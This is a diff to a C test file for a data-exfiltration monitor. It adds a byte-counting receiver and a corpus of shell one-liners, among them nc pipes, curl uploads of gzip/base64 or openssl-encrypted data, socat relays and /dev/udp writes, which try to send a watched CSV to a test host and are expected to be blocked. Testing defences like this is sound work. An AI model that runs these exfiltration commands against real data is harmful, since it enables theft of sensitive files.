@@ -40,6 +40,7 @@
 #define TIMEOUT_S	120	/* per test: generous, for qemu without KVM */
 
 struct world {
+	long threshold;		/* read_threshold; 0: THRESHOLD */
 	char dir[64];
 	char csv[128];
 	char conf[128];
@@ -56,13 +57,13 @@ static int write_conf(struct world *e, const char *mode, const char *internal)
 
 	snprintf(conf, sizeof(conf),
 		 "[watch]\npath = %s\n\n"
-		 "[correlation]\nread_threshold = %d\nsend_threshold = %d\n\n"
+		 "[correlation]\nread_threshold = %ld\nsend_threshold = %d\n\n"
 		 "[network]\ninternal = %s\n\n"
 		 "[policy]\nmode = %s\n\n"
 		 "[daemon]\nstate_dir = %s/state\nsocket = %s\n"
 		 "group = exfilmon-test-nonexistent\n",
-		 e->csv, THRESHOLD, THRESHOLD, internal, mode, e->dir,
-		 e->sock);
+		 e->csv, e->threshold ?: THRESHOLD, THRESHOLD, internal, mode,
+		 e->dir, e->sock);
 	return write_file(e->conf, conf);
 }
 
@@ -876,6 +877,229 @@ TEST_F_TIMEOUT(prevent, detached_cgroup_links_are_found_and_mended,
 	ASSERT_EQ(0, thief_said(&th));
 	EXPECT_EQ(EPERM, thief_step(&th));
 	thief_end(&th);
+}
+
+/*
+ * The catch scenarios of the flow corpus (e2e/test_flow, docs/flow.md),
+ * with the tools thieves use, in prevent mode: the test host receives
+ * nothing, and the one alert says blocked with 0 bytes left. The corpus
+ * runs with read_threshold = 1 byte: any process holding watched data is
+ * refused. (What a process may send below a larger threshold is the
+ * policy's allowance, not the mechanism's: docs/prevent.md "Limits".)
+ *
+ * A receiver on the test host that counts whatever comes, on TCP
+ * (connections accepted as they come) and UDP, until told to stop.
+ */
+struct any_sink {
+	int stop[2];	/* closed by the test: report and exit */
+	int result[2];	/* the byte count */
+	pid_t pid;
+};
+
+static int any_sink_serve(void *arg)
+{
+	struct sockaddr_in sin = { .sin_family = AF_INET,
+				   .sin_port = htons(PORT) };
+	struct any_sink *as = arg;
+	struct pollfd p[34];
+	int nfds = 3, one = 1, i;
+	int64_t total = 0;
+	char buf[65536];
+
+	p[0].fd = as->stop[0];
+	p[1].fd = socket(AF_INET, SOCK_STREAM, 0);
+	p[2].fd = socket(AF_INET, SOCK_DGRAM, 0);
+	if (p[1].fd < 0 || p[2].fd < 0 ||
+	    setsockopt(p[1].fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one)) ||
+	    bind(p[1].fd, (void *)&sin, sizeof(sin)) || listen(p[1].fd, 32) ||
+	    bind(p[2].fd, (void *)&sin, sizeof(sin)))
+		return 1;
+	close(as->stop[1]);
+	if (write(as->result[1], &total, sizeof(total)) != sizeof(total))
+		return 1;	/* ready */
+	for (;;) {
+		for (i = 0; i < nfds; i++)
+			p[i].events = POLLIN;
+		if (poll(p, nfds, -1) < 0)
+			return 1;
+		if (p[0].revents)
+			break;
+		if (p[1].revents & POLLIN && nfds < 34) {
+			p[nfds].fd = accept(p[1].fd, NULL, NULL);
+			if (p[nfds].fd >= 0)
+				nfds++;
+		}
+		for (i = 2; i < nfds; i++) {
+			ssize_t n;
+
+			if (!p[i].revents)
+				continue;
+			n = recv(p[i].fd, buf, sizeof(buf), MSG_DONTWAIT);
+			if (n > 0) {
+				total += n;
+			} else if (i > 2 && (n == 0 || errno != EAGAIN)) {
+				/* ended, or reset: forget it */
+				close(p[i].fd);
+				p[i--] = p[--nfds];
+			}
+		}
+	}
+	return write(as->result[1], &total, sizeof(total)) != sizeof(total);
+}
+
+static int any_sink_start(struct testhost *th, struct any_sink *as)
+{
+	int64_t ready;
+
+	if (pipe(as->stop) || pipe(as->result))
+		return -1;
+	as->pid = testhost_spawn(th, any_sink_serve, as);
+	close(as->result[1]);
+	close(as->stop[0]);
+	if (as->pid < 0 ||
+	    read(as->result[0], &ready, sizeof(ready)) != sizeof(ready))
+		return -1;
+	return 0;
+}
+
+/* What arrived in all, once what was in flight has had 1 s to land. */
+static int64_t any_sink_stop(struct any_sink *as)
+{
+	int64_t total = -1;
+
+	sleep(1);
+	close(as->stop[1]);
+	if (read(as->result[0], &total, sizeof(total)) != sizeof(total))
+		total = -1;
+	close(as->result[0]);
+	waitpid(as->pid, NULL, 0);
+	return total;
+}
+
+FIXTURE(corpus) {
+	struct world e;
+};
+
+/*
+ * cmd is a format: %1$s the table, %2$s the test host, %3$d the port,
+ * %4$s a staging folder, %5$s our helper programs, %6$d a spare number
+ * (a loopback port, a file name).
+ */
+FIXTURE_VARIANT(corpus) {
+	const char *tools;
+	const char *cmd;
+};
+
+#define CURL_TO	"curl -sS -f --noproxy '*' -o /dev/null --data-binary "
+
+FIXTURE_VARIANT_ADD(corpus, cat_piped_into_nc) {
+	.tools = "cat nc",
+	.cmd = "cat %1$s | nc -N %2$s %3$d",
+};
+
+FIXTURE_VARIANT_ADD(corpus, gzip_base64_curl) {
+	.tools = "gzip base64 curl",
+	.cmd = "gzip -c %1$s | base64 | " CURL_TO "@- http://%2$s:%3$d/",
+};
+
+FIXTURE_VARIANT_ADD(corpus, tarball_encrypted_with_openssl_uploaded) {
+	.tools = "tar gzip openssl curl",
+	.cmd = "cd %4$s && tar czf x.tgz -C $(dirname %1$s) customers.csv && "
+	       "openssl enc -aes-256-cbc -pbkdf2 -pass pass:hunter2 -in x.tgz "
+	       "-out x.enc && " CURL_TO "@x.enc http://%2$s:%3$d/",
+};
+
+FIXTURE_VARIANT_ADD(corpus, copy_uploaded_from_another_session) {
+	.tools = "cp setsid curl",
+	.cmd = "cp %1$s %4$s/notes.txt && sleep 1 && setsid -w " CURL_TO
+	       "@%4$s/notes.txt http://%2$s:%3$d/",
+};
+
+FIXTURE_VARIANT_ADD(corpus, staged_copy_moved_then_uploaded) {
+	.tools = "cp mv curl",
+	.cmd = "cp %1$s %4$s/n.txt && mv %4$s/n.txt %4$s/holiday.jpg && "
+	       CURL_TO "@%4$s/holiday.jpg http://%2$s:%3$d/",
+};
+
+FIXTURE_VARIANT_ADD(corpus, split_chunks_uploaded_by_separate_processes) {
+	.tools = "cp split nc",
+	.cmd = "cp %1$s %4$s/db.bak && cd %4$s && split -b 256k db.bak part. "
+	       "&& for f in part.*; do nc -N %2$s %3$d < $f; done",
+};
+
+FIXTURE_VARIANT_ADD(corpus, relay_behind_a_unix_socket) {
+	.tools = "socat nc",
+	.cmd = "socat -u -T 10 UNIX-LISTEN:%4$s/r.sock TCP:%2$s:%3$d & "
+	       "for i in $(seq 50); do [ -S %4$s/r.sock ] && break; "
+	       "sleep 0.1; done; nc -N -U %4$s/r.sock < %1$s; wait",
+};
+
+FIXTURE_VARIANT_ADD(corpus, socat_forwarding_from_loopback_tcp) {
+	.tools = "socat nc",
+	.cmd = "socat -u -T 10 TCP-LISTEN:%6$d,bind=127.0.0.1,reuseaddr "
+	       "TCP:%2$s:%3$d & sleep 0.5; nc -N 127.0.0.1 %6$d < %1$s; wait",
+};
+
+FIXTURE_VARIANT_ADD(corpus, written_into_dev_shm_then_mapped_and_sent) {
+	.tools = "cat",
+	.cmd = "cat %1$s > /dev/shm/exfilmon-prevent-%6$d && %5$s/shm_map "
+	       "send /dev/shm/exfilmon-prevent-%6$d %2$s %3$d; "
+	       "rm -f /dev/shm/exfilmon-prevent-%6$d",
+};
+
+FIXTURE_VARIANT_ADD(corpus, io_uring_read_and_send) {
+	.tools = "",
+	.cmd = "%5$s/uring_exfil %1$s %2$s %3$d; [ $? != 77 ] || "
+	       "touch %4$s/no-uring",
+};
+
+FIXTURE_VARIANT_ADD(corpus, hex_lines_as_udp_datagrams) {
+	.tools = "xxd bash",
+	.cmd = "bash -c 'xxd -p -l 16384 %1$s | while read -r l; do "
+	       "echo \"$l\" > /dev/udp/%2$s/%3$d; done'",
+};
+
+FIXTURE_VARIANT_ADD(corpus, drip_of_16k) {
+	.tools = "dd nc",
+	.cmd = "dd if=%1$s bs=16k count=1 status=none | nc -N %2$s %3$d",
+};
+
+FIXTURE_SETUP(corpus)
+{
+	memset(&self->e, 0, sizeof(self->e));
+	self->e.threshold = 1;
+}
+
+FIXTURE_TEARDOWN(corpus)
+{
+	world_down(&self->e);
+}
+
+TEST_F_TIMEOUT(corpus, refused_and_nothing_arrives, TIMEOUT_S)
+{
+	struct world *e = &self->e;
+	char stage[128], helpers[512], cmd[2048], marker[160];
+	struct any_sink as;
+
+	if (run("for t in %s; do command -v $t >/dev/null || exit 1; done",
+		variant->tools))
+		SKIP(return, "a tool of \"%s\" is not installed here "
+		     "(scripts/deps.sh installs them)", variant->tools);
+	WORLD_UP("prevent", "10.0.0.0/8");
+	snprintf(stage, sizeof(stage), "%s/stage", e->dir);
+	ASSERT_EQ(0, mkdir(stage, 0755));
+	snprintf(helpers, sizeof(helpers), "%s/tests/helpers", build_dir());
+	ASSERT_EQ(0, any_sink_start(&e->th, &as));
+	snprintf(cmd, sizeof(cmd), variant->cmd, e->csv, e->th.remote4, PORT,
+		 stage, helpers, 20000 + getpid() % 20000);
+	/* the thief's tools fail, as they should: their status is theirs */
+	if (system(cmd) < 0)
+		TH_LOG("failed to run %s", cmd);
+	EXPECT_EQ(0, any_sink_stop(&as));
+	snprintf(marker, sizeof(marker), "%s/no-uring", stage);
+	if (!access(marker, F_OK))
+		SKIP(return, "io_uring is not available here");
+	expect_blocked(_metadata, e, e->th.remote4, 1, 0);
 }
 
 TEST_HARNESS_MAIN
